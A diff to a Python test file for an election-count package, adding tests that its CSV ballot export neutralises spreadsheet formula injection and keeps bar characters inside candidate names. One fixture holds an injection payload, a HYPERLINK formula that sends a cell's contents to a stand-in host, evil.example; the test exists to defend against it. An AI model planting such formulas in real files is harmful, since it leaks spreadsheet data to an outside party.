@@ -2,7 +2,12 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
+
+from hypothesis import given
+from hypothesis import strategies as st
 
 from primary import countfile, counting, exports
 
@@ -52,3 +57,32 @@ def test_rctab_summary_from_a_result_and_from_its_saved_json_agree():
     assert first["tally"] == {"Ana": "6", "Ben": "3", "Cleo": "6"}
     assert first["tallyResults"] == [{"eliminated": "Ben", "transfers": {"exhausted": "3"}}]
     assert direct["summary"]["numWinners"] == 1
+
+
+SPREADSHEET_RUNS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def cells(text: str) -> list[str]:
+    return [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]
+
+
+def test_a_ballot_name_that_is_a_formula_is_published_as_text():
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"Vote here")'
+    text = exports.ballots_csv([("K7Q2", [evil, "Ben"]), ("P9X4", ["@SUM(1)"])])
+    assert not [c for c in cells(text) if c.startswith(SPREADSHEET_RUNS)]
+    assert f"'{evil}" in cells(text), "the name is still there, to read"
+
+
+def test_a_bar_in_a_candidate_name_is_published_not_refused():
+    text = exports.ballots_csv([["Ana|Bea", "Ben"], ["Ben"], ["Ana|Bea"]])
+    parsed = countfile.read_cvr_csv(text)
+    assert sorted(parsed.candidates) == ["Ana¦Bea", "Ben"], "one name, not an overvote"
+    again = counting.count(parsed.ballots, parsed.candidates, 1, counting.primary_rules(1), "s")
+    assert again.winners == ["Ana¦Bea"]
+
+
+@given(st.lists(st.lists(st.text(min_size=1, max_size=12), min_size=1, max_size=3,
+                         unique=True), min_size=1, max_size=5))
+def test_no_published_cell_starts_like_a_formula(rankings):
+    assert not [c for c in cells(exports.ballots_csv(rankings))
+                if c.startswith(SPREADSHEET_RUNS)]
